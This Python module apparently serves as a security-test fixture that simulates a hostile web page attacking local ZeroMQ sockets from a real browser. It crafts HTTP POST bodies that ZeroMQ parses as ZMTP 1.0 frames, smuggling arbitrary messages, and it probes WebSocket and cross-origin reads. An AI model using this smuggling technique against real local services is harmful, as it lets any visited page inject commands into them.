"""What a web page may try on the sockets of this computer, from another origin than theirs.

ZeroMQ takes whoever does not greet it for a peer of ZMTP 1.0, which has no greeting: an HTTP
request reads as frames, each of a length and a flags byte before its content. Where they end in the
request's head is known to whoever has seen one such head, and then the body holds any message.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from socketserver import StreamRequestHandler
from urllib.parse import urlsplit

from selenium.webdriver.remote.webdriver import WebDriver

MORE = 1
BODY_BYTES = 700
SUBSCRIBE = b"\1"
"""To everything."""
PATIENCE_S = 2.0
"""More than the 50 ms after which a control socket looks for requests."""


def zmtp1(parts: Sequence[bytes]) -> bytes:
    """Return a message of ZMTP 1.0."""
    last = len(parts) - 1
    return b"".join(
        bytes([len(part) + 1, MORE if at < last else 0]) + part for at, part in enumerate(parts)
    )


def body_after(head: bytes, message: Sequence[bytes]) -> bytes:
    """Return the body that makes a request with this head, read as frames, end with a message."""
    at, is_open = 0, False
    while at < len(head):
        size = head[at]
        is_open = at + 1 >= len(head) or bool(head[at + 1] & MORE)
        at += 1 + size
    body = bytearray(at - len(head))  # the rest of the frame in which the head ends
    if is_open and body and at - len(head) == size:  # its flags are the body's first byte
        is_open = False
    return bytes(body) + (zmtp1([b"x"]) if is_open else b"") + zmtp1(message)


def post(address: str, message: Sequence[bytes]) -> bytes:
    """Send a message in an HTTP request, as a page would; return what comes back for a while."""
    where = urlsplit(address)
    head = (
        f"POST /{'x' * 70} HTTP/1.1\r\nHost: {where.netloc}\r\nOrigin: http://127.0.0.1:1\r\n"
        "Content-Type: text/plain\r\nContent-Length: 500\r\n\r\n"
    ).encode()
    data, end_s = b"", time.monotonic() + PATIENCE_S
    with socket.create_connection((where.hostname, where.port or 0)) as connection:
        connection.settimeout(PATIENCE_S)
        try:
            connection.sendall(head + body_after(head, message))
            while time.monotonic() < end_s and (more := connection.recv(4096)):
                data += more
        except (TimeoutError, ConnectionError):
            pass
    return data


class HostileSite:
    """Somebody else's web site on this computer: one page, and a port that keeps what it is sent.

    Attributes:
        url: of the page.
        listening: of the port to which the page posts to learn what its requests look like.

    """

    def __init__(self) -> None:
        self.heads: list[bytes] = []
        page, listening = _server(_Page), _server(_Listening)
        listening.heads = self.heads  # type: ignore[attr-defined]
        self._servers = [page, listening]
        self.url, self.listening = (f"http://127.0.0.1:{s.server_port}" for s in self._servers)

    def close(self) -> None:
        for server in self._servers:
            server.shutdown()
            server.server_close()


class _Page(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>hostile</title>")

    def log_message(self, *_: object) -> None:
        pass


class _Listening(StreamRequestHandler):
    def handle(self) -> None:
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            head += self.rfile.read(1)
        self.server.heads.append(head)  # type: ignore[attr-defined]
        self.wfile.write(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")


def _server(handler: type[StreamRequestHandler]) -> ThreadingHTTPServer:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, name="hostile-site").start()
    return server


POST = """
const [url, bytes, done] = arguments;
const signal = AbortSignal.timeout(1500);
fetch(url, {method: "POST", mode: "no-cors", body: new Uint8Array(bytes), signal})
    .then(() => done("answered"), error => done(String(error)));
"""
OPEN_SOCKET = """
const [url, protocols, done] = arguments;
const socket = new WebSocket(url, protocols);
socket.onopen = () => done("open");
socket.onerror = () => done("refused");
"""
READ = """
const [url, done] = arguments;
fetch(url).then(answer => answer.text()).then(text => done("read"), () => done("refused"));
"""


class Attacker:
    """A page of a hostile site in a real browser, which does what a page can."""

    def __init__(self, browser: WebDriver, site: HostileSite) -> None:
        self._browser, self._site = browser, site
        browser.get(site.url)
        browser.set_script_timeout(30)

    def post(self, address: str, message: Sequence[bytes]) -> None:
        """Send a ZeroMQ message in a request whose head was learnt from another one like it."""
        self._post(self._site.listening, b"x" * BODY_BYTES)
        body = body_after(self._site.heads[-1], message)
        assert len(body) <= BODY_BYTES
        self._post(address.replace("tcp://", "http://"), body.ljust(BODY_BYTES, b"\1"))

    def opens_socket(self, url: str, *protocols: str) -> bool:
        """Tell whether a websocket opens."""
        return self._run(OPEN_SOCKET, url, list(protocols)) == "open"

    def reads(self, url: str) -> bool:
        """Tell whether a page elsewhere can be read."""
        return self._run(READ, url) == "read"

    def _post(self, url: str, body: bytes) -> None:
        self._run(POST, f"{url}/{'x' * 70}", list(body))

    def _run(self, script: str, *arguments: object) -> str:
        return str(self._browser.execute_async_script(script, *arguments))
